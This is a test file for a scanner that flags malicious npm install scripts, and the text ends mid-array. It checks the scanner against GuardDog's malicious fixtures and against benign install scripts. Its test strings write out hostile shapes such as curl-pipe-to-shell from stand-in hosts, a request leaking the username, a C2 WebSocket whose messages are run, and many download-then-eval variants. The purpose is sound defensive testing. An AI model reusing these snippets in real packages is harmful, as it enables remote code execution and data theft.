/**
 * The JavaScript reader of install-scripts (src/checks/lib/js-code.ts) on real code: labelled
 * malicious shapes from DataDog's GuardDog test corpus, and the real install scripts of popular
 * packages (fixtures/install-code, fixtures/PROVENANCE.md), plus edits that show each rule's edge.
 */
import { readFileSync, readdirSync, statSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { MAX_SCANNED_CHARS, readInstallJavaScript, readingWindows, stripComments } from '../../src/checks/lib/js-code.js';
import { TEST_REGISTRY } from '../npm-source/fixtures.js';

const FIXTURES = new URL('../../fixtures/install-code/', import.meta.url);
/** A fixture's text, the registry placeholder filled in as the fixture server does (fixtures/PROVENANCE.md). */
const read = (path: string) => readFileSync(new URL(path, FIXTURES), 'utf8').replaceAll('{{REGISTRY}}', TEST_REGISTRY);
const flags = (code: string) => readInstallJavaScript(code).map((f) => f.flag).sort();
/** About `chars` characters of code that writes nothing and names no startup place, to set shapes apart. */
const FILLER = (chars: number): string => Array.from({ length: Math.ceil(chars / 32) }, (_, i) => `function f${i}(x) { return x + ${i}; }`).join('\n');

function files(dir: string): string[] {
  return readdirSync(new URL(dir, FIXTURES)).flatMap((name) => (statSync(new URL(`${dir}${name}`, FIXTURES)).isDirectory() ? files(`${dir}${name}/`) : [`${dir}${name}`]));
}

describe('GuardDog corpus: malicious shapes are found', () => {
  test.each([
    ['npm-exfiltrate-sensitive-data.js', ['beacon', 'credential-read', 'exfiltration']],
    ['npm-exec-base64.js', ['decoded-eval', 'remote-eval']],
    ['npm-obfuscation.js', ['decoded-eval', 'obfuscated']],
    ['npm-silent-process-execution.js', ['detached-process']],
    ['npm-steganography.js', ['remote-eval']],
    ['threat-network-exfiltration.js', ['download-exec']],
    ['threat-runtime-obfuscation-dynamic-eval.js', ['decoded-eval']],
    ['threat-runtime-obfuscation-hidden-code.js', ['decoded-eval']],
    ['threat-runtime-obfuscation-js-mangling.js', ['obfuscated']],
    ['threat-runtime-self-propagation.js', ['publishes']],
  ])('%s', (file, expected) => {
    expect(flags(read(`guarddog/${file}`))).toEqual(expected);
  });

  test('the corpus’ benign counterparts read clean', () => {
    const benign = files('guarddog/benign/');
    expect(benign.length).toBeGreaterThanOrEqual(5);
    for (const file of benign) expect([file, flags(read(file))]).toEqual([file, []]);
  });

  test('serialising the environment without sending it anywhere is not a finding', () => {
    expect(flags(read('guarddog/npm-serialize-environment.js'))).toEqual([]);
  });
});

describe("popular packages' real install scripts read clean", () => {
  const benign = files('benign/');
  test('every recorded install script (downloaders, native builds, banners)', () => {
    expect(benign.length).toBeGreaterThanOrEqual(15);
    for (const file of benign) expect([file, flags(read(file))]).toEqual([file, []]);
  });
});

describe("a bundled CLI's inlined package.json and a container's reachability probe read clean", () => {
  // gitlab-ci-local 4.75.1's dist/index.js (fixtures/PROVENANCE.md): its package.json's `fetch-schema`
  // script, and `curl -s -o /dev/null -w "%{http_code}"` waiting for a registry in a container.
  test('gitlab-ci-local 4.75.1: neither is a download run', () => {
    expect(flags(read('excerpts/gitlab-ci-local@4.75.1/index.js'))).toEqual([]);
  });
  test.each([
    ['a probe whose line then pipes a download into a shell', "const cp = require('child_process');\ncp.execSync('curl -s -o /dev/null https://x.example && curl -s https://x.example/i.sh | sh')", ['download-exec']],
    ['a download kept, not thrown away', "const cp = require('child_process');\ncp.execSync('curl -s -o /tmp/x.sh https://x.example/i.sh')", ['download-exec']],
    ['a scripts object that is no package.json', "const cp = require('child_process');\nconst cfg = {version:\"1.0.0\",scripts:{go:\"curl -s https://x.example/i.sh | sh\"}};\ncp.execSync(cfg.scripts.go)", ['download-exec']],
    ['a probe whose address carries the user name', "const cp = require('child_process');\ncp.execSync('curl -s -o /dev/null https://x.example/$(whoami)')", ['download-exec', 'exfiltration']],
    ['an inlined package.json whose download script the code runs', "const cp = require('child_process');\nvar pkg={name:\"x\",version:\"1.0.0\",scripts:{schema:\"curl -s https://x.example/i.sh | sh\"},devDependencies:{a:\"1.x\"}};\ncp.execSync(pkg.scripts.schema);", ['download-exec']],
    ['an inlined package.json with a download script', "const cp = require('child_process');\nvar pkg={name:\"x\",version:\"1.0.0\",scripts:{schema:\"curl https://x.example/s.json -sf > s.json\"},devDependencies:{a:\"1.x\"}};\ncp.spawnSync(exe, ['--version']);", []],
  ])('%s', (_name, code, expected) => {
    expect(flags(code)).toEqual(expected);
  });
});

describe("a bundled CLI's shell completion script held as text reads clean", () => {
  // yargs' completion templates, as create-qwik 1.20.1 bundles them beside child_process (fixtures/PROVENANCE.md).
  test('create-qwik 1.20.1: "# Installation: … >> ~/.bashrc" on comment lines is no write', () => {
    expect(flags(read('excerpts/create-qwik@1.20.1/index.cjs'))).toEqual([]);
  });
});

/**
 * Unrelated code longer than remote-eval's nearness (src/checks/lib/remote-eval.ts, NEAR), put
 * between a download and its evaluation: the shape is then found by its link, not by distance.
 */
const UNRELATED = Array.from({ length: 24 }, (_, i) => `function step${i}(a, b) { return a * ${i} + b; }`).join('\n');

describe('remote-eval: downloaded text evaluated, linked to its download', () => {
  test.each([
    ['a response read in chunks and evaluated at its end, in the response callback', "const https = require('https');\nhttps.get(u, (r) => { let b = ''; r.on('data', (d) => (b += d));\n{{PAD}}\nr.on('end', () => eval(b)); });"],
    ['fetch, the text of the response, eval handed over as a value', "fetch(u)\n.then((r) => r.text())\n.then((t) => { {{PAD}}\nreturn t; })\n.then(eval);"],
    ['the evaluation given the download itself', "{{PAD}}\neval(await (await fetch('https://cdn.example/p.js')).text());"],
    ['the response, then its text, then Function', "const res = await fetch(u);\n{{PAD}}\nconst code = await res.text();\n{{PAD}}\nnew Function(code)();"],
    ["axios' answer destructured, run by vm", "const vm = require('vm');\nconst axios = require('axios');\nconst { data: script } = await axios.get('https://cdn.example/x');\n{{PAD}}\nvm.runInThisContext(script);"],
    ['a synchronous XMLHttpRequest, its text evaluated', "const xhr = new XMLHttpRequest();\nxhr.open('GET', u, false);\nxhr.send();\n{{PAD}}\neval(xhr.responseText);"],
    ["an XMLHttpRequest's load handler", "var x = new XMLHttpRequest();\nx.onload = function () {\n{{PAD}}\neval(this.responseText); };\nx.open('GET', u); x.send();"],
    ['chunks kept by a handler in a named function, evaluated later', "const http = require('http');\nlet body = '';\nfunction handle(res) { res.on('data', (chunk) => { body += chunk; }); }\n{{PAD}}\nhttp.get(u, handle);\n{{PAD}}\nsetTimeout(() => eval(body), 3000);"],
    ['chunks pushed, concatenated, run by Function', "const https = require('https');\nconst chunks = [];\nfunction onRes(res) { res.on('data', (c) => chunks.push(c)); }\n{{PAD}}\nhttps.get(u, onRes);\n{{PAD}}\nprocess.on('beforeExit', () => Function(Buffer.concat(chunks).toString())());"],
    ["a WebSocket's messages run", "const WebSocket = require('ws');\nconst ws = new WebSocket('wss://c2.example/');\nws.on('message', (m) => {\n{{PAD}}\nnew Function(m.toString())(); });"],
    ['a helper that downloads, its answer run in a new context', "function download(u) { return new Promise((ok) => require('https').get(u, (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => ok(d)); })); }\n{{PAD}}\nconst payload = await download(url);\n{{PAD}}\nrequire('vm').runInNewContext(payload, { require });"],
    ['a DNS TXT record evaluated', "const dns = require('dns');\ndns.resolveTxt('cfg.example', (err, records) => {\n{{PAD}}\neval(records.flat().join('')); });"],
    ["the https module under another name, read by bracket, and a decoded image's payload (GuardDog's steganography shape)", "const t = 'base64', h = require('https');\nh['get']('https://cdn.example/initial.png', (response) => { let data = ''; response.on('data', (r) => { data += r; });\n{{PAD}}\nresponse.on('end', () => { let plain = Buffer.from(data, t).toString(); eval(plain); }); });"],
    ['get taken out of https by name, under another name', "const { get: download } = require('https');\ndownload(u, (r) => { let s = ''; r.on('data', (c) => (s += c));\n{{PAD}}\nr.on('end', () => new Function(s)()); });"],
    ['request imported by name from http', "import { request } from 'http';\nrequest(u, (r) => { r.setEncoding('utf8'); r.on('data', (c) => {\n{{PAD}}\neval(c); }); }).end();"],
    ['a downloaded script compiled by new vm.Script', "const vm = require('vm');\nconst src = await (await fetch(u)).text();\n{{PAD}}\nnew vm.Script(src).runInThisContext();"],
    // An evaluator, a function that evaluates its parameter, is an evaluation: its calls and the references handed over.
    ['an evaluator declared before, called with the download in the response callback', "const https = require('https');\n{{PAD}}\nfunction run(code) { eval(code); }\n{{PAD}}\nhttps.get(u, (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => run(d)); });"],
    ['an evaluator declared after its call', "const https = require('https');\nhttps.get(u, (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => run(d)); });\n{{PAD}}\nfunction run(code) { eval(code); }"],
    ['an arrow evaluator bound with const, Function given require', "const https = require('https');\nhttps.get(u, (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => go(d)); });\n{{PAD}}\nconst go = (s) => { const f = new Function('require', s); f(require); };"],
    ["an evaluator handed to fetch's chain", "function run(code) { eval(code); }\n{{PAD}}\nfetch(u).then((r) => r.text()).then(run);"],
    ['an evaluator reached through another function', "const https = require('https');\n{{PAD}}\nfunction run(s) { return vm.runInThisContext(s); }\n{{PAD}}\nfunction load(text) { const out = run(text); return out; }\n{{PAD}}\nhttps.get(u, (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => load(d)); });"],
    ['an evaluator kept as a method, called on its object with the chunks kept elsewhere', "const https = require('https');\nlet body = '';\nfunction onRes(res) { res.on('data', (chunk) => { body += chunk; }); }\n{{PAD}}\nconst loader = { exec(code) { return new Function(code)(); } };\n{{PAD}}\nhttps.get(u, onRes);\n{{PAD}}\nsetTimeout(() => loader.exec(body), 3000);"],
    ['an evaluator called through call', "const https = require('https');\n{{PAD}}\nfunction run(code) { eval(code); }\n{{PAD}}\nhttps.get(u, (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => run.call(null, d)); });"],
    ['an evaluator called through apply, given the download', "function run(code) { eval(code); }\n{{PAD}}\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nrun.apply(null, [loaded]);"],
    // A member of an object every function shares is a name, however short.
    ['the chunk kept on global, evaluated elsewhere', "const https = require('https');\nhttps.get(u, (r) => { r.on('data', (c) => (global.p = c)); });\n{{PAD}}\nsetTimeout(() => eval(global.p), 1000);"],
    ["the chunk kept on globalThis by bracket, read by dot", "const https = require('https');\nhttps.get(u, (r) => { r.on('data', (c) => (globalThis['p'] = c)); });\n{{PAD}}\nsetTimeout(() => eval(globalThis.p), 1000);"],
    ['the chunk kept in the environment', "const https = require('https');\nhttps.get(u, (r) => { r.on('data', (c) => (process.env.P = c)); });\n{{PAD}}\nsetTimeout(() => new Function(process.env.P)(), 1000);"],
    ["the chunk kept on module.exports, read from exports", "const https = require('https');\nhttps.get(u, (r) => { r.on('data', (c) => (module.exports.p = c)); });\n{{PAD}}\nsetTimeout(() => eval(exports.p), 1000);"],
    // An event whose handler evaluates what it is given: emitting it is calling an evaluator.
    ['the chunk relayed through an event emitter to a handler that evaluates it', "const https = require('https');\nconst E = require('events'); const bus = new E();\n{{PAD}}\nbus.on('code', (s) => eval(s));\n{{PAD}}\nhttps.get(u, (r) => { r.on('data', (c) => bus.emit('code', c)); });"],
    ['the same with the evaluator named, the chunk the second argument', "const https = require('https');\n{{PAD}}\nfunction run(origin, code) { return eval(code); }\n{{PAD}}\nbus.once('code', run);\n{{PAD}}\nhttps.get(u, (r) => { r.on('data', (c) => bus.emit('code', u, c)); });"],
    // Decoys that spend the reader's budgets before the evaluation that runs the download: a budget spent is not a file cleared.
    // Evaluations written another way, and evaluators called by another function (docs/security.md).
    ['an evaluator called through Reflect.apply', "function run(code) { eval(code); }\n{{PAD}}\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nReflect.apply(run, null, [loaded]);"],
    ['eval itself through Reflect.apply', "const loaded = await (await fetch(u)).text();\n{{PAD}}\nReflect.apply(eval, globalThis, [loaded]);"],
    ["an evaluator given the download as a timer's extra argument", "function run(code) { eval(code); }\n{{PAD}}\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nsetTimeout(run, 0, loaded);"],
    ['the same through setImmediate', "const go = (s) => new Function(s)();\n{{PAD}}\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nsetImmediate(go, loaded);"],
    ['the same through process.nextTick', "function run(code) { return vm.runInThisContext(code); }\n{{PAD}}\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nprocess.nextTick(run, loaded);"],
    ['the same through queueMicrotask', "function run(code) { eval(code); }\n{{PAD}}\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nqueueMicrotask(() => run(loaded));"],
    ['an event named by a variable, handled by an evaluator and emitted with the download', "const topic = 'co' + 'de';\nbus.on(topic, (s) => eval(s));\n{{PAD}}\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nbus.emit(topic, loaded);"],
    ['indirect eval: (0, eval)', "const loaded = await (await fetch(u)).text();\n{{PAD}}\n(0, eval)(loaded);"],
    ['indirect eval: globalThis.eval', "const loaded = await (await fetch(u)).text();\n{{PAD}}\nglobalThis.eval(loaded);"],
    ['indirect eval: eval given to a name first', "const loaded = await (await fetch(u)).text();\n{{PAD}}\nconst e = eval;\ne(loaded);"],
    ['indirect eval: eval taken out of an array', "const loaded = await (await fetch(u)).text();\n{{PAD}}\n[eval][0](loaded);"],
    ['the download imported as a data: module', "const loaded = await (await fetch(u)).text();\n{{PAD}}\nawait import('data:text/javascript,' + encodeURIComponent(loaded));"],
    ['the download imported from a Blob address', "const loaded = await (await fetch(u)).text();\n{{PAD}}\nawait import(URL.createObjectURL(new Blob([loaded], { type: 'text/javascript' })));"],
    ["the download compiled as a module by Module's _compile", "const Module = require('module');\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nconst m = new Module(u);\nm._compile(loaded, 'x.js');"],
    ['the download written to a file, then required', "const fs = require('fs');\nconst target = path.join(os.tmpdir(), 'x.js');\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nfs.writeFileSync(target, loaded);\n{{PAD}}\nrequire(target);"],
    ['the download handed to a function that stores it, evaluated later', "let stash = '';\nfunction keep(s) { stash = s; }\n{{PAD}}\nconst loaded = await (await fetch(u)).text();\nkeep(loaded);\n{{PAD}}\nsetTimeout(() => eval(stash), 1000);"],
    ['the response piped to a file, required when it is written', "const https = require('https');\nconst target = path.join(os.tmpdir(), 'x.js');\nhttps.get(u, (r) => { r.pipe(fs.createWriteStream(target)).on('finish', done); });\n{{PAD}}\nfunction done() { require(target); }"],
    ['sixty harmless evaluations before the one that runs the download', `const https = require('https');\n{{PAD}}\n${Array.from({ length: 60 }, (_, i) => `const v${i} = eval('${i} + 1');`).join('\n')}\n{{PAD}}\nhttps.get(u, (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => run(d)); });\n{{PAD}}\nfunction run(code) { eval(code); }`],
    ['twelve decoy evaluators before the one handed the download', `const https = require('https');\n{{PAD}}\n${Array.from({ length: 12 }, (_, i) => `function ev${i}(s) { return eval(s); }`).join('\n')}\n{{PAD}}\nhttps.get(u, (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => run(d)); });\n{{PAD}}\nfunction run(code) { eval(code); }`],
  ])('%s', (_name, code) => {
    // Close together and with unrelated code between: found either way.
    expect(flags(code.replaceAll('{{PAD}}', ''))).toEqual(['remote-eval']);
    expect(flags(code.replaceAll('{{PAD}}', UNRELATED))).toEqual(['remote-eval']);
  });

  // Emscripten's glue fetches its .wasm and evaluates, elsewhere, the JavaScript its own module
  // carries: EM_ASM / EM_JS code and embind's invokers (fixtures/PROVENANCE.md, two cuts of each file).
  test.each([
    ['excerpts/wasm-vips@0.0.19/vips-node-em-asm.js'],
    ['excerpts/wasm-vips@0.0.19/vips-node-embind.js'],
    ['excerpts/web-tree-sitter@0.27.2/web-tree-sitter-em-asm.js'],
    ['excerpts/pyodide@314.0.8/pyodide-em-js.mjs'],
  ])('%s: a fetch and an unrelated evaluation in one file read clean', (file) => {
    expect(flags(read(file))).toEqual([]);
  });

  test.each([
    ['a download and an evaluation of a constant, far apart', "const r = await fetch(u);\nconst wasm = await r.arrayBuffer();\n{{PAD}}\nconst f = new Function('a', 'b', 'return a + b');"],
    ['a name reused: the download assigned, then the name given other text before the evaluation', "let s = await (await fetch(u)).text();\nrender(s);\n{{PAD}}\ns = buildInvoker(argCount);\n{{PAD}}\nconst invoker = new Function(s);"],
    ['a value tested, not evaluated: the answer decides which constant text runs', "const ok = (await fetch(u)).ok;\n{{PAD}}\nconst body = ok ? 'return 1' : 'return 2';\n{{PAD}}\nnew Function(body)();"],
    ['an evaluator run on text of its own, the network elsewhere', "const https = require('https');\nhttps.get(u, save);\n{{PAD}}\nfunction run(code) { return eval(code); }\n{{PAD}}\nrun('1 + 1');\nrun(template);"],
    ['an evaluator given the download as an argument it does not evaluate', "function run(code, label) { console.log(label); return eval(code); }\n{{PAD}}\nconst payload = await (await fetch(u)).text();\n{{PAD}}\nrun(SOURCE, payload);"],
    ["an event whose handler evaluates, emitted with the file's own text; the response relayed as another event", "const https = require('https');\n{{PAD}}\nbus.on('code', (s) => eval(s));\n{{PAD}}\nbus.emit('code', 'return 1');\nhttps.get(u, (r) => { r.on('data', (c) => bus.emit('chunk', c)); });"],
    ['a global member given local text, evaluated, the network elsewhere', "const https = require('https');\nhttps.get(u, save);\n{{PAD}}\nglobal.p = fs.readFileSync(f, 'utf8');\n{{PAD}}\neval(global.p);"],
    ["a minifier's short name: an evaluator inside a line, the name given again far away to what a fetch callback calls", "var q=1;function D(a,b){return eval(`(${a}) => ${b}`)}\n{{PAD}}\n{{PAD}}\nfetch(u).then(function(r){var D=r.json;return D(1)});"],
    ['a data handler on a file stream, the network elsewhere', "const https = require('https');\nhttps.get(u, save);\n{{PAD}}\nlet src = '';\nconst s = fs.createReadStream(p);\ns.on('data', (d) => (src += d));\nprocess.stdin.on('data', (line) => { src += line; });\n{{PAD}}\nconst tpl = compile(src);\n{{PAD}}\nFunction(tpl)();"],
    ['eval given to a name, run on text of its own, the network elsewhere', "const https = require('https');\nhttps.get(u, save);\n{{PAD}}\nconst e = eval;\ne('1 + 1');"],
    ['an event named by a variable whose handler evaluates, the download emitted as another', "bus.on(topic, (s) => eval(s));\n{{PAD}}\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nbus.emit(other, loaded);"],
    ['a require hook compiling local files, the network elsewhere', "const https = require('https');\nhttps.get(u, save);\n{{PAD}}\nModule.prototype._compile = function (content, filename) { return compile.call(this, transform(content), filename); };\n{{PAD}}\nm._compile(fs.readFileSync(file, 'utf8'), file);"],
    ['a native addon downloaded to a file, then required (a prebuilt binary)', "const https = require('https');\nconst addon = path.join(__dirname, 'build', 'binding.node');\nhttps.get(u, (r) => { r.pipe(fs.createWriteStream(addon)).on('finish', done); });\n{{PAD}}\nfunction done() { require(addon); }"],
    ['local text written to a file, then required, the network elsewhere', "const https = require('https');\nhttps.get(u, save);\n{{PAD}}\nfs.writeFileSync(target, template.replace('X', name));\n{{PAD}}\nrequire(target);"],
    ['a function that stores its parameter, given local text, evaluated; the network elsewhere', "const https = require('https');\nhttps.get(u, save);\n{{PAD}}\nlet stash = '';\nfunction keep(s) { stash = s; }\n{{PAD}}\nkeep(fs.readFileSync(file, 'utf8'));\n{{PAD}}\neval(stash);"],
    ['a download written to one file, another file required', "const loaded = await (await fetch(u)).text();\n{{PAD}}\nfs.writeFileSync(cache, loaded);\n{{PAD}}\nrequire(config);"],
  ])('%s', (_name, code) => {
    expect(flags(code.replaceAll('{{PAD}}', UNRELATED))).toEqual([]);
  });
});

// Shapes docs/security.md once listed as not linked: an event named at run time, eval reached by
// a computed member, code run through a child process or a worker, a path spelled two ways. A file
// that downloads and reaches a computed name it cannot resolve counts it as evaluating (fail closed).
describe('remote-eval: evaluations written around the links, with a download in the file', () => {
  test.each([
    ['chunks kept by a handler of an event whose name is joined from pieces', "const https = require('https');\nlet body = '';\nfunction handle(res) { res.on(['da', 'ta'].join(''), (chunk) => { body += chunk; }); }\n{{PAD}}\nhttps.get(u, handle);\n{{PAD}}\nsetTimeout(() => eval(body), 3000);"],
    ["chunks kept by a handler of an event named by a constant holding 'data'", "const https = require('https');\nconst ev = 'data';\nlet body = '';\nfunction handle(res) { res.on(ev, (chunk) => { body += chunk; }); }\n{{PAD}}\nhttps.get(u, handle);\n{{PAD}}\nsetTimeout(() => eval(body), 3000);"],
    ['eval reached through globalThis by a name held in a variable', "const name = process.argv[2] || pick();\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nglobalThis[name](loaded);"],
    ['eval reached through self by a key the download itself names', "const res = await fetch(u);\nconst key = res.headers.get('x-run');\nconst loaded = await res.text();\n{{PAD}}\nself[key](loaded);"],
    ['a computed member of global given to a name, then called', "const loaded = await (await fetch(u)).text();\n{{PAD}}\nconst run = global[k];\n{{PAD}}\nrun(loaded);"],
    ['the download written to a file, then run by node through exec', "const fs = require('fs'), cp = require('child_process');\nconst file = path.join(os.tmpdir(), 'p.js');\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nfs.writeFileSync(file, loaded);\n{{PAD}}\ncp.exec('node ' + file);"],
    ['the download written to a file, then spawned with process.execPath', "const fs = require('fs');\nconst { spawn } = require('child_process');\nconst file = path.join(os.tmpdir(), 'p.js');\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nfs.writeFileSync(file, loaded);\n{{PAD}}\nspawn(process.execPath, [file], { stdio: 'ignore' });"],
    ['the response piped to a file, forked when it is written', "const https = require('https');\nconst target = path.join(os.tmpdir(), 'x.js');\nhttps.get(u, (r) => { r.pipe(fs.createWriteStream(target)).on('finish', done); });\n{{PAD}}\nfunction done() { require('child_process').fork(target); }"],
    ['the download handed to node -e', "const { execSync } = require('child_process');\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nexecSync('node -e ' + JSON.stringify(loaded));"],
    ['the download run by a worker made with eval: true', "const { Worker } = require('worker_threads');\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nnew Worker(loaded, { eval: true });"],
    ['the download written to a file, then run by a worker', "const { Worker } = require('worker_threads');\nconst file = path.join(__dirname, 'w.js');\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nfs.writeFileSync(file, loaded);\n{{PAD}}\nnew Worker(file);"],
    ['a path written by path.join, required by concatenation', "const loaded = await (await fetch(u)).text();\n{{PAD}}\nfs.writeFileSync(path.join(__dirname, 'x.js'), loaded);\n{{PAD}}\nrequire(__dirname + '/x.js');"],
    ['a path written by a template, required by path.resolve', "const loaded = await (await fetch(u)).text();\n{{PAD}}\nfs.writeFileSync(`${__dirname}/lib/x.js`, loaded);\n{{PAD}}\nrequire(path.resolve(__dirname, 'lib', 'x.js'));"],
  ])('%s', (_name, code) => {
    expect(flags(code.replaceAll('{{PAD}}', ''))).toEqual(['remote-eval']);
    expect(flags(code.replaceAll('{{PAD}}', UNRELATED))).toEqual(['remote-eval']);
  });

  test.each([
    ["a handler of an event named by a constant that is not 'data', its chunks evaluated", "const https = require('https');\nconst ev = 'progress';\nlet body = '';\nfunction handle(res) { res.on(ev, (n) => { body += n; }); }\n{{PAD}}\nhttps.get(u, handle);\n{{PAD}}\nsetTimeout(() => eval(body), 3000);"],
    ['a member of globalThis named by a constant that is not eval', "const name = 'structuredClone';\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nglobalThis[name](loaded);"],
    ['a computed member of window called on local text, the network elsewhere', "const https = require('https');\nhttps.get(u, save);\n{{PAD}}\nwindow[handlerName](event.detail);"],
    ['a binary downloaded to a file, then run by execFile (a prebuilt binary checked)', "const https = require('https');\nconst bin = path.join(__dirname, 'bin', 'tool');\nhttps.get(u, (r) => { r.pipe(fs.createWriteStream(bin)).on('finish', done); });\n{{PAD}}\nfunction done() { require('child_process').execFileSync(bin, ['--version']); }"],
    ['an archive downloaded to a file, then unpacked by tar', "const loaded = Buffer.from(await (await fetch(u)).arrayBuffer());\nconst file = path.join(os.tmpdir(), 'x.tgz');\n{{PAD}}\nfs.writeFileSync(file, loaded);\n{{PAD}}\nrequire('child_process').execSync('tar xzf ' + file);"],
    ['node run on a script of the package, the download elsewhere', "const cp = require('child_process');\nconst loaded = await (await fetch(u)).text();\nfs.writeFileSync(cache, loaded);\n{{PAD}}\ncp.execSync('node ' + path.join(__dirname, 'build.js'));"],
    ['a worker on a file of the package, the download elsewhere', "const { Worker } = require('worker_threads');\nconst loaded = await (await fetch(u)).text();\nfs.writeFileSync(path.join(__dirname, 'cache.txt'), loaded);\n{{PAD}}\nnew Worker(path.join(__dirname, 'worker.js'));"],
    ['a worker made with eval: true on code of its own', "const https = require('https');\nhttps.get(u, save);\n{{PAD}}\nnew Worker('require(\"./w.js\")', { eval: true });"],
  ])('%s', (_name, code) => {
    expect(flags(code.replaceAll('{{PAD}}', UNRELATED))).toEqual([]);
  });
});

// Shapes docs/security.md listed as not linked until now: an event handled through a computed
// member or another method, a stream read whole by a helper or by iteration, a member computed on
// vm, on module or on an object given an evaluation, a path built by other calls.
describe('remote-eval: events, members and paths computed another way, with a download in the file', () => {
  test.each([
    ['chunks kept by a handler of an event whose name is built by a call', "const https = require('https');\nconst E = ['da', 'ta'].join('');\nlet body = '';\nfunction handle(res) { res.on(E, (chunk) => { body += chunk; }); }\n{{PAD}}\nhttps.get(u, handle);\n{{PAD}}\nsetTimeout(() => eval(body), 3000);"],
    ["a handler set through a computed member: res[on]('data', …)", "const https = require('https');\nconst on = 'on';\nlet body = '';\nfunction handle(res) { res[on]('data', (chunk) => { body += chunk; }); }\n{{PAD}}\nhttps.get(u, handle);\n{{PAD}}\nsetTimeout(() => eval(body), 3000);"],
    ["a handler set by res['on']('data', …)", "const https = require('https');\nlet body = '';\nfunction handle(res) { res['on']('data', (chunk) => { body += chunk; }); }\n{{PAD}}\nhttps.get(u, handle);\n{{PAD}}\nsetTimeout(() => eval(body), 3000);"],
    ['a handler set by addListener', "const https = require('https');\nlet body = '';\nfunction handle(res) { res.addListener('data', (chunk) => { body += chunk; }); }\n{{PAD}}\nhttps.get(u, handle);\n{{PAD}}\nsetTimeout(() => eval(body), 3000);"],
    ['a handler set by prependListener', "const https = require('https');\nlet body = '';\nfunction handle(res) { res.prependListener('data', (chunk) => { body += chunk; }); }\n{{PAD}}\nhttps.get(u, handle);\n{{PAD}}\nsetTimeout(() => eval(body), 3000);"],
    ['a handler set by once, evaluating its chunk itself', "const https = require('https');\nfunction handle(res) { res.once('data', (chunk) => {\n{{PAD}}\nnew Function(chunk.toString())(); }); }\n{{PAD}}\nhttps.get(u, handle);"],
    ['the response iterated by for await', "const https = require('https');\nconst res = await new Promise((ok) => https.get(u, ok));\nlet body = '';\n{{PAD}}\nfor await (const chunk of res) body += chunk;\n{{PAD}}\neval(body);"],
    ['the response piped to concat-stream, whose callback evaluates it', "const https = require('https');\nconst concat = require('concat-stream');\nfunction handle(res) { res.pipe(concat((body) => {\n{{PAD}}\neval(body.toString()); })); }\n{{PAD}}\nhttps.get(u, handle);"],
    ['the stream read whole by stream/consumers text(), run by Function', "const https = require('https');\nconst { text } = require('stream/consumers');\nconst res = await new Promise((ok) => https.get(u, ok));\n{{PAD}}\nconst source = await text(res);\n{{PAD}}\nnew Function(source)();"],
    ["fetch's body read by the response's text(), run by Function", "const response = await fetch(u);\n{{PAD}}\nconst source = await response.text();\n{{PAD}}\nnew Function(source)();"],
    ['vm by a computed member', "const vm = require('vm');\nconst k = pick();\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nvm[k](loaded);"],
    ["vm by a member named by a constant: runInThisContext", "const vm = require('vm');\nconst k = 'runInThisContext';\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nvm[k](loaded);"],
    ["require('vm') by a computed member", "const loaded = await (await fetch(u)).text();\n{{PAD}}\nrequire('vm')[k](loaded);"],
    ['vm under another name by a computed member', "const v = require('node:vm');\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nv[k](loaded);"],
    ['module by a computed member (its _compile)', "const loaded = await (await fetch(u)).text();\n{{PAD}}\nmodule[k](loaded, 'x.js');"],
    ['an event emitted by a name built by a call, handled by an evaluator', "const https = require('https');\n{{PAD}}\nbus.on('code', (s) => eval(s));\n{{PAD}}\nconst E = ['co', 'de'].join('');\nhttps.get(u, (r) => { r.on('data', (c) => bus.emit(E, c)); });"],
    ['an object whose member was given eval, called by a computed member', "const loader = {};\nloader.run = eval;\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nloader[k](loaded);"],
    ['an object literal holding vm.runInThisContext, called by a computed member', "const vm = require('vm');\nconst loader = { go: vm.runInThisContext, id: 1 };\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nloader[k](loaded);"],
    ['an object whose member was given Function, called by that member', "const loader = {};\nloader.run = Function;\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nloader.run(loaded)();"],
    ['a path built by path.resolve and os.tmpdir, written, then spawned with node', "const { spawn } = require('child_process');\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nfs.writeFileSync(path.resolve(os.tmpdir(), 'x.js'), loaded);\n{{PAD}}\nspawn('node', [`${os.tmpdir()}/x.js`]);"],
    ['a path written as new URL(…, import.meta.url), imported by the same URL', "const loaded = await (await fetch(u)).text();\n{{PAD}}\nfs.writeFileSync(new URL('./x.js', import.meta.url), loaded);\n{{PAD}}\nawait import(new URL('./x.js', import.meta.url));"],
    ['a path written by fileURLToPath(new URL(…)), imported by pathToFileURL(…).href', "const loaded = await (await fetch(u)).text();\nconst file = fileURLToPath(new URL('./x.js', import.meta.url));\n{{PAD}}\nawait writeFile(file, loaded);\n{{PAD}}\nawait import(pathToFileURL(file).href);"],
